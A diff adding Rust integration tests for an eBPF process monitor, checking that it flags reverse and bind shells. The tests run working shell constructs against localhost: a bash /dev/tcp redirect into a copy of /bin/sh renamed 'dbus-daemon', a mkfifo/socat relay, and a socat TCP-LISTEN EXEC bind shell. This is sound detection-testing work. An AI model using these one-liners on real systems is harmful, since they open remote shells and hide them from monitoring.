@@ -1,0 +1,156 @@
+//! Reverse and bind shells end to end, as root, judged by the test's own processes: a shell is
+//! known by what its file is (a renamed copy of the system shell), a shell whose stdio a
+//! connected relay holds (a FIFO pipeline through socat) and a shell started by a process that
+//! accepted a connection (socat TCP-LISTEN EXEC) are reverse shells; a shell fed by a pipe from
+//! a process with no connection is not.
+use std::{
+    io::Write,
+    net::{TcpListener, TcpStream},
+    process::{Command, Stdio},
+    time::Duration,
+};
+
+use procwatch_tests::{Monitor, TempDir, has_rule, require_root, scratch_base};
+
+fn have(tool: &str) -> bool {
+    Command::new("sh")
+        .args(["-c", &format!("command -v {tool}")])
+        .stdout(Stdio::null())
+        .status()
+        .is_ok_and(|s| s.success())
+}
+
+/// Accepts one connection and keeps it open until the returned handle is joined.
+fn accept_one(listener: TcpListener) -> std::thread::JoinHandle<Option<TcpStream>> {
+    std::thread::spawn(move || listener.accept().ok().map(|(s, _)| s))
+}
+
+#[test]
+#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
+fn a_renamed_copy_of_the_shell_on_a_socket_is_a_reverse_shell() {
+    require_root!();
+    let m = Monitor::start("", &[]);
+    let dir = TempDir::new_in(&scratch_base(), "renamed-shell");
+    let real = std::fs::canonicalize("/bin/sh").expect("/bin/sh");
+    let copy = dir.copy_exe(&real, "dbus-daemon");
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    let peer = accept_one(listener);
+    let script = format!(
+        "exec 3<>/dev/tcp/127.0.0.1/{port}; exec {} -i <&3 >&3 2>&3",
+        copy.display()
+    );
+    let mut child = Command::new("bash")
+        .args(["-c", &script])
+        .stdin(Stdio::null())
+        .spawn()
+        .expect("bash");
+    let a = m.expect_rule(child.id(), "reverse_shell");
+    assert!(
+        a["exe"]
+            .as_str()
+            .is_some_and(|e| e.ends_with("/dbus-daemon")),
+        "{a:#}"
+    );
+    assert!(
+        a["reasons"].to_string().contains("copy of a shell"),
+        "{a:#}"
+    );
+    if let Ok(Some(mut s)) = peer.join() {
+        let _ = s.write_all(b"exit\n");
+    }
+    let _ = child.kill();
+    let _ = child.wait();
+}
+
+#[test]
+#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
+fn a_shell_relayed_through_a_fifo_or_served_by_a_listener_is_a_reverse_shell() {
+    require_root!();
+    if !have("socat") {
+        eprintln!("SKIP: socat not installed (cargo xtask setup installs it)");
+        return;
+    }
+    let m = Monitor::start("", &[]);
+    let dir = TempDir::new_in(&scratch_base(), "relay");
+    let fifo = dir.0.join("f");
+
+    // Benign first: a shell fed commands through a pipe by a process with no connection.
+    let mut quiet = Command::new("sh")
+        .args(["-c", "echo true | /bin/sh -s"])
+        .spawn()
+        .expect("sh");
+    let quiet_pid = quiet.id();
+    let _ = quiet.wait();
+
+    // 1. `sh -i < fifo | relay > fifo`: the relay is a sibling holding the connection.
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    let peer = accept_one(listener);
+    let script = format!(
+        "mkfifo {f}; /bin/sh -i < {f} 2>&1 | socat - TCP:127.0.0.1:{port} > {f}",
+        f = fifo.display()
+    );
+    let mut outer = Command::new("sh")
+        .args(["-c", &script])
+        .stdin(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("sh");
+    let outer_pid = outer.id();
+    let a = m
+        .wait_alert(Duration::from_secs(15), |a| {
+            a["ppid"] == outer_pid && has_rule(a, "reverse_shell")
+        })
+        .unwrap_or_else(|| panic!("no relayed reverse shell; alerts: {:#?}", m.alerts()));
+    assert!(a["reasons"].to_string().contains("socat"), "{a:#}");
+    let held = peer.join().ok().flatten();
+    drop(held);
+    let _ = outer.kill();
+    let _ = outer.wait();
+
+    // 2. Bind shell: socat accepts, then runs the shell on the connection.
+    // A server port below the ephemeral range, as a real one would be.
+    let port = (0..200)
+        .map(|i| 20_000 + ((std::process::id() as u16).wrapping_add(i * 7) % 9_000))
+        .find(|&p| TcpListener::bind(("127.0.0.1", p)).is_ok())
+        .expect("a free port");
+    let mut server = Command::new("socat")
+        .args([
+            &format!("TCP-LISTEN:{port},bind=127.0.0.1,reuseaddr"),
+            "EXEC:/bin/sh -i,stderr",
+        ])
+        .stdin(Stdio::null())
+        .spawn()
+        .expect("socat");
+    let server_pid = server.id();
+    let mut conn = None;
+    for _ in 0..100 {
+        if let Ok(s) = TcpStream::connect(("127.0.0.1", port)) {
+            conn = Some(s);
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    assert!(conn.is_some(), "socat never listened on {port}");
+    let a = m
+        .wait_alert(Duration::from_secs(15), |a| {
+            a["ppid"] == server_pid && has_rule(a, "reverse_shell")
+        })
+        .unwrap_or_else(|| panic!("no bind shell alert; alerts: {:#?}", m.alerts()));
+    assert!(a["reasons"].to_string().contains("bind shell"), "{a:#}");
+    drop(conn);
+    let _ = server.kill();
+    let _ = server.wait();
+
+    // The benign shell ran before both positive controls: had it alerted, it would be in.
+    let noisy: Vec<_> = m
+        .alerts()
+        .into_iter()
+        .filter(|a| a["ppid"] == quiet_pid && has_rule(a, "reverse_shell"))
+        .collect();
+    assert!(
+        noisy.is_empty(),
+        "a pipe from a process with no connection alerted: {noisy:#?}"
+    );
+}
